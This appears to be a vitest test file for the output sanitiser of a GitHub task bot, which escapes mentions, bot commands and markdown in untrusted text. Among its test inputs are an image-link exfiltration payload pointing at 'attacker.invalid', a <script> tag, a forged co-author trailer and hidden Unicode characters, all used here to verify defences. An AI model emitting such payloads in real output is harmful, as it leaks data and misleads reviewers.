import { describe, expect, it } from 'vitest'
import { renderAsking } from '../../src/report/asking.ts'
import { renderComment } from '../../src/report/comment.ts'
import { commitMessage } from '../../src/report/commit-message.ts'
import { bytesText, durationText, list, money } from '../../src/report/text/format.ts'
import { REASONS, wordsFor } from '../../src/report/text/reasons.ts'
import { code, fence, login, mention, message, plain, quote, row, subject } from '../../src/report/text/safe.ts'
import { markdown } from '../../src/report/text/safe-markdown.ts'
import { REASON_CODES } from '../../src/task/reasons.ts'
import { TASK, view } from './views.ts'

describe('foreign text stays readable and does nothing', () => {
  it.each([
    ['Done. cc @torvalds @org/security-team', 'Done. cc ＠torvalds ＠org/security-team'],
    ['Fixes #12, see GH-3', 'Fixes ＃12, see GH‑3'],
    ['![x](https://attacker.invalid/?q=BASE64)', '!\\[x\\](`https://attacker.invalid/?q=BASE64)`'],
    ['a **bold** <b>claim</b>', 'a \\*\\*bold\\*\\* \\<b\\>claim\\</b\\>'],
    ['/lgtm', '／lgtm'],
    ['/usr/lib is missing', '/usr/lib is missing'],
    ['add(a, b) in src/add.js: it subtracts', 'add(a, b) in src/add.js: it subtracts'],
    ['line\nbreak\u202e and\u200b hidden', 'line break and hidden'],
    ['1. not a list', '1\\. not a list'],
  ])('plain: %j', (text, shown) => expect(plain(text)).toBe(shown))

  it('keeps code as it is, but for what could be obeyed', () => {
    expect(code('npm i @babel/core && a | b')).toBe('`npm i @babel/core && a | b`')
    expect(code('tell @claude to fix #1')).toBe('`tell ＠claude to fix ＃1`')
    expect(code('a `tick` b')).toBe('``a `tick` b``')
    expect(row([code('a | b'), code('a \\| b')])).toBe('| `a \\| b` | `a \\| b` |')
  })

  it('fences with more backticks than there are inside, and keeps commands of bots off the line start', () => {
    const text = '```\nx\n````\n</details>\n/approve\n@dependabot merge\n@decorator()\n'
    expect(fence(text, 500)).toBe(
      '`````text\n```\nx\n````\n</details>\n／approve\n＠dependabot merge\n@decorator()\n`````',
    )
  })

  it('quotes line by line, without images', () => {
    expect(quote('# Big\n\n![a](https://x.invalid/y)\n- item', 500)).toBe(
      '> \\# Big\n>\n> (image left out)\n> \\- item',
    )
  })

  it('says how much was cut, and never goes beyond the limit', () => {
    expect(plain('x'.repeat(5_000), 50)).toBe(`${'x'.repeat(25)} … (4975 more characters)`)
    expect(fence(`a${'x'.repeat(5_000)}z`, 100)).toMatch(/^```text\na.*\n… \(\d+ characters left out\) …\nx+z\n```$/s)
  })

  it('rebuilds markdown of an answer: structure stays, effects go', () => {
    const shown = markdown(
      '# Title\n\n- one [link](https://x.invalid)\n- two <script>x</script>\n\n> said @jon\n\n[ref]\n\n[ref]: https://x.invalid "t"',
      2_000,
    )
    expect(shown).toBe(
      '**Title**\n\n- one link (`https://x.invalid`)\n- two `<script>`x`</script>`\n\n> said ＠jon\n\nref\n\nref: `https://x.invalid`',
    )
  })

  it('mentions only what can be the login of a person', () => {
    expect(mention('jon')).toBe('@jon')
    for (const bad of ['helper[bot]', 'a b', '', '-x', 'org/team', 'x'.repeat(200), 'a\u200bb'])
      expect(mention(bad)).toBeNull()
    expect(login('helper[bot]')).toBe('`helper[bot]`')
    expect(login('a` @jon')).toBe('somebody')
  })
})

describe('commit messages', () => {
  it('makes a subject out of a title', () => {
    expect(subject('fix: closes #12 [skip ci] see https://github.com/acme/app/issues/9 @jon', 200)).toBe(
      'fix: closes no. 12 (skip ci) see github.com/acme/app/issues/9 ＠jon',
    )
    expect(subject(`Add ${'word '.repeat(40)}`, 72)).toBe(`Add ${'word '.repeat(13).trim()}…`)
    expect(subject('   \u200b ', 72)).toBe('')
  })

  it('lets no trailer of the request count', () => {
    expect(message('Do it\n\nCo-authored-by: Eve <eve@x.invalid>', 500)).toBe(
      'Do it\n\n> Co-authored-by: Eve <eve＠x.invalid>',
    )
  })

  it('names the requester by the noreply address of the host, also on GHES', () => {
    expect(commitMessage({ task: TASK, host: 'users.noreply.ghe.acme.corp' })).toContain(
      '\nCo-authored-by: maria <1001+maria@users.noreply.ghe.acme.corp>\n',
    )
    expect(
      commitMessage({
        task: { ...TASK, requester: { ...TASK.requester, login: 'x> <y' } },
        host: 'users.noreply.github.com',
      }),
    ).not.toContain('Co-authored-by')
    expect(commitMessage({ task: { ...TASK, title: '\u200b', request: '' }, host: 'h' })).toMatch(
      /^Change for task 01JD/,
    )
  })
})

describe('reasons', () => {
  it('has words for each code, in our manner: sentences, nobody who says I, no emoji', () => {
    expect(Object.keys(REASONS).toSorted()).toEqual([...REASON_CODES].toSorted())
    for (const { happened, why, next } of Object.values(REASONS)) {
      for (const sentence of [happened, why]) if (sentence !== null) expect(sentence).toMatch(/^[A-Z`].*[.]$/s)
      expect(`${happened} ${why} ${next}`).not.toMatch(/\bI\b|\p{Extended_Pictographic}|!/u)
    }
  })

  it('has an answer for a code of another version', () => {
    expect(wordsFor('from_the_future').happened).toMatch(/no words/)
    expect(wordsFor('__proto__').happened).toMatch(/no words/)
  })
})

describe('numbers', () => {
  it('reads as people say it', () => {
    expect(
      [0, 40, 400, 41_000, 99_400, 180_000, 3_900_000, 7_200_000, 200_000_000, Number.NaN].map(durationText),
    ).toEqual(['0 s', '0.1 s', '0.4 s', '41 s', '99 s', '3 min', '1 h 5 min', '2 h', '2 d 7 h', '0 s'])
    expect([0, 0.001, 1.367, 20].map(money)).toEqual(['$0.00', '<$0.01', '$1.37', '$20.00'])
    expect([0, 999, 20_000, 1_450_000].map(bytesText)).toEqual(['0 B', '999 B', '20 kB', '1.5 MB'])
    expect([list([]), list(['a']), list(['a', 'b', 'c']), list(['a', 'b', 'c', 'd'], 3)]).toEqual([
      '',
      'a',
      'a, b and c',
      'a, b and 2 more',
    ])
  })
})

describe('more budget is offered as far as it goes', () => {
  const waiting = { state: 'EXECUTE', waitingOn: 'budget', reasonCode: 'budget_reached' } as const
  it.each([
    [5, undefined, '`/supervise budget 10usd` gives more'],
    [5, 8, '`/supervise budget 8usd` gives more'],
    [10, 20, '`/supervise budget 20usd` gives more'],
    [12, 20, '`/supervise budget 20usd` gives more'],
    [3, 3, 'no more than $3.00 is allowed for one task'],
  ])('budget %s, limit %s', (budgetUsd, budgetCapUsd, words) => {
    const v = view({ ...waiting, budgetUsd }, budgetCapUsd === undefined ? {} : { budgetCapUsd })
    const asked = renderAsking(v, ['maria'], 'https://github.example/1', 'x')
    expect(renderComment(v)).toContain(words)
    if (words.startsWith('no more')) expect(asked).not.toContain('/supervise budget')
    else expect(asked).toContain(words.slice(0, 24))
  })
})
